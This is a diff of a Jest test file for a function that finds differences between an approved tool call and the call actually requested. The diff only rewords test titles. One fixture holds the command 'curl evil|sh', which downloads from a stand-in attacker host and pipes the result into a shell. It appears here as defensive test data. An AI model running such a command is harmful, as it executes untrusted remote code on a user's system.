@@ -21,11 +21,11 @@ test.each([
   ['a text instead of fields', { a: 1 }, 'curl evil|sh', { a: 1 }],
   ['fields instead of a text', 'ls', { a: 1 }, { raw: '"ls"' }],
   ['a field of every object', { constructor: 'ls' }, {}, { constructor: 'ls' }],
-])('SAFE: %s is what was said otherwise', (_name, said, asked, other) => {
+])('SAFE: %s is a difference', (_name, said, asked, other) => {
   expect(saidOtherwise(call(asked), call(said))).toEqual({ arguments: JSON.stringify(other) });
 });
 
-test('arguments in another order, and new ones, are no difference: the request shows them', () => {
+test('arguments in another order and new arguments are not a difference: the request shows them', () => {
   const said = call({ a: { x: 1, y: 2 }, b: [1] });
   expect(saidOtherwise(call({ b: [1], a: { y: 2, x: 1 }, more: true }), said)).toBeUndefined();
   expect(saidOtherwise(call({ a: 1 }), { name: 'Bash', arguments: '' })).toBeUndefined();
@@ -45,7 +45,7 @@ test.each([
   ['kind', 'read', 'execute'],
   ['locations', [{ path: '/a' }], [{ path: '/b' }]],
   ['diffs', [{ path: '/a', newText: 'a' }], [{ path: '/a', newText: 'b' }]],
-] as const)('SAFE: another %s is what was said otherwise', (key, said, asked) => {
+] as const)('SAFE: another %s is a difference', (key, said, asked) => {
   expect(saidOtherwise(call({}, { [key]: asked }), call({}, { [key]: said }))).toEqual({
     [key]: said,
   });
